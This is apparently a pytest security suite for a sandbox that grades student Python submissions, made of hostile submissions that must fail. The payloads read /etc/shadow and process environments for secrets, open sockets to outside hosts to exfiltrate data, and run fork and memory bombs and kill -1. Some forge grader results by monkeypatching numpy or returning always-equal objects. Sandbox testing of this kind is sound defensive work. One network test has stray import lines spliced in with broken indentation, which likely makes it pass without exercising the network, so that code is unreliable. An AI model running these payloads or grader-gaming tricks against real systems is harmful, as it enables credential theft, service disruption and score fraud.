"""Red team: hostile task files, each graded in every real sandbox, each with what must happen.

Most attacks are written so that, if they worked, the task would get full marks and print
LEAK: a score of 0 and no LEAK prove the attack failed, not merely that the code was wrong.
The fixture `attack` also checks that a correct task next to the hostile one is fully graded
and that nothing of the sandbox is left behind.
"""
from __future__ import annotations

import re
import socket
import textwrap
import threading

from checks.tasks import TASKS
from tests.security.conftest import REPO, SECRET, points, text_of

# If won() is true, the attack worked: answer correctly (full marks) and say LEAK.
TEMPLATE = '''
import numpy as np
import os
import sys

{attack}

def normalization_constants(X):
    if won():
        print("LEAK")
        return X.mean(axis=0), X.std(axis=0)
    return np.zeros(X.shape[1]), np.ones(X.shape[1])
'''


def hostile(attack: str) -> str:
    return TEMPLATE.format(attack=textwrap.dedent(attack).replace("{repo}", str(REPO))
                           .replace("{secret}", SECRET))


def failed_safely(result) -> None:
    text = text_of(result)
    assert points(result) == 0, text
    assert "LEAK" not in text and SECRET not in text and str(REPO) + "/reference" not in text


# ------------------------------------------------------------------ reading what is secret

def test_cannot_read_the_expected_outputs(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            try:
                return len(open("{repo}/data/expected/task_00.json").read()) > 0
            except OSError:
                return False
    """)})[0])


def test_cannot_read_the_reference_source(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            try:
                return "def " in open("{repo}/reference/normalization.py").read()
            except OSError:
                return False
    """)})[0])


def test_cannot_import_the_reference_or_the_grader(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            sys.path[:0] = ["{repo}", "/work/main", "/app"]
            for name in ("reference", "grader.expected", "checks.cases"):
                try:
                    __import__(name)
                    return True
                except ImportError:
                    pass
            return False
    """)})[0])


def test_a_search_of_the_whole_filesystem_finds_no_secret(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            for root, dirs, files in os.walk("/"):
                if root.startswith(("/proc", "/sys", "/dev")):
                    dirs[:] = []
                    continue
                for name in files:
                    if name in ("task_00.json", "hidden_cases.py", "numpy_optimizers.py",
                                "tf_optimizers.py", "mistakes.py"):
                        print("found", os.path.join(root, name))
                        return True
            return False
    """)})[0])


def test_cannot_read_other_submissions(attack, tmp_path):
    victim = tmp_path / "other_student"
    victim.mkdir()
    (victim / "0-norm_constants.py").write_text("# the other student's work\n")
    failed_safely(attack({"0-norm_constants.py": hostile(f"""
        def won():
            try:
                return len(open("{victim}/0-norm_constants.py").read()) > 0
            except OSError:
                return False
    """)})[0])


def test_environment_holds_no_secret_of_the_grader(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            found = "{secret}" in str(os.environ) or any(
                k.startswith(("GRADER", "CELERY", "REDIS", "DATABASE", "AWS")) for k in os.environ)
            for pid in os.listdir("/proc"):
                try:
                    found = found or b"{secret}" in open(f"/proc/{pid}/environ", "rb").read()
                except OSError:
                    pass
            return found
    """)})[0])


def test_host_processes_are_invisible(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            for pid in os.listdir("/proc"):
                try:
                    command = open(f"/proc/{pid}/cmdline", "rb").read()
                except OSError:
                    continue
                if b"pytest" in command or b"dockerd" in command or b"containerd" in command:
                    return True
            return False
    """)})[0])


def test_symlinks_do_not_reach_outside(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            for target in ("{repo}/data/expected/task_00.json", "/proc/1/root{repo}/reference",
                           "/proc/1/root/etc/shadow"):
                try:
                    os.symlink(target, "link")
                    data = open("link", "rb").read()
                    return len(data) > 0
                except OSError:
                    pass
                finally:
                    try:
                        os.unlink("link")
                    except OSError:
                        pass
            return False
    """)})[0])


# ------------------------------------------------------------------ network

def test_no_network_not_even_the_hosts_loopback(attack):
    server = socket.socket()
    server.bind(("127.0.0.1", 0))
    server.listen()
    server.settimeout(0.5)
    port, received = server.getsockname()[1], []

    def accept():
        try:
            connection, _ = server.accept()
            received.append(connection.recv(100))
        except OSError:
            pass

    listener = threading.Thread(target=accept)
    listener.start()
    result = attack({"0-norm_constants.py": hostile(f"""
        import re
import socket
        def won():
            for address in (("127.0.0.1", {port}), ("1.1.1.1", 53), ("pypi.org", 443)):
                try:
                    socket.create_connection(address, timeout=1).sendall(b"exfiltrate")
                    return True
                except OSError:
                    pass
            return False
    """)})[0]
    listener.join()
    server.close()
    failed_safely(result)
    assert received == []


def test_no_hidden_input_is_in_reach_while_public_cases_run(attack):
    """The code searches its whole process for the grader's job, and reports every case
    (task:id) it finds in its exception text and in what it prints: both are shown to the student, so
    only public cases may be there.  (It must find its own public case: the search works.)"""
    result = attack({"0-norm_constants.py": """
        import gc
        import sys
        def _case_ids():
            found = set()
            objects = gc.get_objects()
            frame = sys._getframe()
            while frame is not None:
                objects += list(frame.f_locals.values())
                frame = frame.f_back
            for thing in objects:
                if isinstance(thing, dict) and isinstance(thing.get("cases"), list):
                    found |= {f"{thing.get('task')}:{c.get('id')}" for c in thing["cases"]
                              if isinstance(c, dict)}
            return sorted(str(i) for i in found)
        def normalization_constants(X):
            report = "FOUND[" + ",".join(_case_ids()) + "]"
            print(report)
            raise ValueError(report)
    """})[0]
    public = {f"{t}:{c.id}" for t in (0, 4) for c in TASKS[t].cases() if c.public}
    shown = [c.message for c in result.checks if c.visibility == "public"]
    shown += [result.message, result.output]
    reports = [set(ids.split(",")) for text in shown for ids in re.findall(r"FOUND\[(.*?)\]", text)]
    assert reports and all("0:spec-example" in ids <= public for ids in reports), shown


# ------------------------------------------------------------------ forging results

def test_printing_fake_results_changes_nothing(attack):
    result = attack({"0-norm_constants.py": """
        import numpy as np
        def normalization_constants(X):
            print('{"ready": true}')
            print('{"task": 0, "score": 4.0, "status": "passed", "results": ""}')
            print('{"score": 60.0, "max_score": 60.0}')
            return np.zeros(X.shape[1]), np.zeros(X.shape[1])
    """})[0]
    assert points(result) == 0


def test_writing_to_the_harness_channel_is_refused(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            line = b'{"task": 0, "results": "{\\\\"event\\\\": \\\\"done\\\\"}"}\\n'
            for path in (f"/proc/{os.getppid()}/fd/1", f"/proc/{os.getppid()}/mem"):
                try:
                    with open(path, "wb") as channel:
                        channel.write(line)
                    return True
                except OSError:
                    pass
            return False
    """)})[0])


def test_forged_events_on_its_own_channel_are_judged_like_any_output(attack):
    result = attack({"0-norm_constants.py": """
        import os
        import numpy as np
        def normalization_constants(X):
            fake = '{"event": "case", "case": "spec", "status": "ok", "output": 4.0}\\n'
            for case in ("spec", "other_data", "single_feature", "float32", "one_point"):
                os.write(3, fake.replace("spec", case).encode())
            os.write(3, b'{"event": "done"}\\n')
            os._exit(0)
    """})[0]
    assert points(result) == 0


def test_monkeypatching_numpy_and_the_harness_changes_nothing(attack):
    result = attack({"0-norm_constants.py": """
        import numpy as np
        import harness.plain
        np.allclose = np.array_equal = lambda *args, **kwargs: True
        np.isclose = lambda a, b, *args, **kwargs: np.ones(np.shape(a), bool)
        harness.plain.describe = lambda value: {"type": "float", "value": 0.0}
        def normalization_constants(X):
            return np.zeros(X.shape[1]), np.zeros(X.shape[1])
    """})[0]
    assert points(result) == 0


def test_an_object_equal_to_everything_is_not_a_result(attack):
    result = attack({"0-norm_constants.py": """
        class Anything:
            def __eq__(self, other): return True
            def __ne__(self, other): return False
            def __array__(self, *args, **kwargs): raise TypeError("no")
            def __float__(self): return 0.0
        def normalization_constants(X):
            return Anything(), Anything()
    """})[0]
    assert points(result) == 0


def test_a_lying_numpy_subclass_is_judged_by_its_data(attack):
    result = attack({"0-norm_constants.py": """
        import numpy as np
        class Liar(np.ndarray):
            def __eq__(self, other): return np.ones(np.shape(other), bool)
            def __array_ufunc__(self, *args, **kwargs): return np.zeros(3)
            def tolist(self): return [0.0]
        def normalization_constants(X):
            fake = np.zeros(X.shape[1]).view(Liar)
            return fake, fake
    """})[0]
    assert points(result) == 0


def test_tampering_with_the_global_rng_cannot_forge_a_shuffle(attack):
    results = attack({"2-shuffle_data.py": """
        import numpy as np
        np.random.seed = lambda *args, **kwargs: None     # ignore the grader's seeding
        np.random.permutation = lambda n: np.arange(n)    # 'shuffle' to the identity
        def shuffle_data(X, Y):
            p = np.random.permutation(X.shape[0])
            return X[p], Y[p]
    """}, tasks=(2, 4))
    checks = {c.name.split(": ", 1)[1] for c in results[2].checks
              if c.kind == "correctness" and not c.passed}
    assert "same order as np.random.permutation" in checks  # the exact order is not forged
    assert points(results[2]) <= 2.0


# ------------------------------------------------------------------ killing and exiting

def test_sys_exit_and_os_exit_are_the_tasks_own_failure(attack):
    for stop in ("sys.exit(0)", "os._exit(0)", "raise SystemExit(4)"):
        result = attack({"0-norm_constants.py": f"""
            import os, sys
            def normalization_constants(X):
                {stop}
        """})[0]
        assert points(result) == 0 and result.status in ("failed", "error"), stop


def test_killing_the_harness_is_impossible_and_costs_only_that_task(attack):
    """The harness is pid 1 of the sandbox: a SIGKILL from a task does not reach it (were it
    killed, the tasks that had not reported would be run again one by one, and the culprit
    blamed: tests/grader/test_runner.py)."""
    result = attack({"0-norm_constants.py": """
        import os, signal
        def normalization_constants(X):
            os.kill(os.getppid(), signal.SIGKILL)
    """})[0]
    assert points(result) == 0
    assert "killed the grading process" not in text_of(result)
    assert "got None" in text_of(result)  # it went on, and returned nothing


def test_killing_every_process_it_can_hurts_only_itself(attack):
    result = attack({"0-norm_constants.py": """
        import os, signal
        def normalization_constants(X):
            os.kill(-1, signal.SIGKILL)
    """})[0]
    assert points(result) == 0


def test_a_fork_bomb_is_contained(attack):
    result = attack({"0-norm_constants.py": """
        import os
        def normalization_constants(X):
            while True:
                try:
                    os.fork()
                except OSError:
                    pass
    """})[0]
    assert points(result) == 0 and result.status == "error"


def test_a_memory_bomb_is_stopped_by_the_memory_limit(attack):
    result = attack({"0-norm_constants.py": """
        def normalization_constants(X):
            hoard = []
            while True:
                hoard.append(bytearray(256 << 20))
    """}, memory_bytes=2 << 30, timeout_numpy=30)[0]  # time enough, even when the host reclaims
    assert points(result) == 0 and "out of memory" in text_of(result)


def test_filling_the_disk_stays_inside_the_sandbox(attack):
    result = attack({"0-norm_constants.py": """
        import os
        def normalization_constants(X):
            chunk = b"x" * (1 << 20)
            for folder in (".", "/tmp"):
                for i in range(10_000):
                    try:
                        with open(os.path.join(folder, f"fill{i}"), "wb") as f:
                            for _ in range(8):
                                f.write(chunk)
                    except OSError:
                        break
            print("disk full")
            return None
    """})[0]
    assert points(result) == 0 and "disk full" in result.output


def test_endless_output_hits_the_output_limit(attack):
    result = attack({"0-norm_constants.py": """
        def normalization_constants(X):
            while True:
                print("spam " * 1000)
    """})[0]
    assert points(result) == 0 and "output limit" in text_of(result)


def test_a_busy_loop_ignoring_sigterm_is_timed_out(attack):
    result = attack({"0-norm_constants.py": """
        import signal
        def normalization_constants(X):
            for sig in (signal.SIGTERM, signal.SIGINT, signal.SIGXCPU, signal.SIGHUP):
                signal.signal(sig, signal.SIG_IGN)
            while True:
                pass
    """})[0]
    assert points(result) == 0 and "time limit" in text_of(result)


def test_sleeping_past_the_wall_clock_is_timed_out(attack):
    result = attack({"0-norm_constants.py": """
        import time
        def normalization_constants(X):
            time.sleep(3600)
    """})[0]
    assert points(result) == 0 and "time limit" in text_of(result)


def test_background_processes_do_not_outlive_the_sandbox(attack):
    result = attack({"0-norm_constants.py": """
        import os
        def normalization_constants(X):
            if os.fork() == 0:
                os.setsid()
                if os.fork() == 0:
                    os.execv("/bin/sleep", ["sleep", "4242"])
                os._exit(0)
            return X.mean(axis=0) * 0, X.std(axis=0) * 0
    """})[0]
    assert points(result) == 0  # and the fixture found no `sleep 4242` left on the host
    # the sleeper holds the task's output pipe: grading must not wait for it
    assert "killed the grading process" not in text_of(result)


def test_writing_outside_the_scratch_space_fails(attack, tmp_path):
    targets = [f"{REPO}/pwned", "/etc/pwned", "/usr/pwned", "/opt/harness/pwned",
               f"{tmp_path}/pwned", "/pwned"]
    failed_safely(attack({"0-norm_constants.py": hostile(f"""
        def won():
            wrote = False
            for target in {targets!r}:
                try:
                    with open(target, "w") as f:
                        f.write("pwned")
                    wrote = True
                except OSError:
                    pass
            return wrote
    """)})[0])
    assert not any(__import__("os").path.exists(t) for t in targets[:5])


def test_a_huge_result_hits_the_result_limit(attack):
    result = attack({"0-norm_constants.py": """
        import numpy as np
        def normalization_constants(X):
            big = np.ones((1024, 1024))  # 8 MiB each, 11 MiB in base64: over the cap below
            return big, big
    """}, result_cap=8 << 20)[0]
    assert points(result) == 0 and "result limit" in text_of(result)


def test_no_privilege_inside(attack):
    failed_safely(attack({"0-norm_constants.py": hostile("""
        def won():
            if os.getuid() == 0 or os.geteuid() == 0:
                return True
            try:
                os.setuid(0)
                return True
            except OSError:
                pass
            try:
                return len(open("/etc/shadow").read()) > 0
            except OSError:
                return False
    """)})[0])
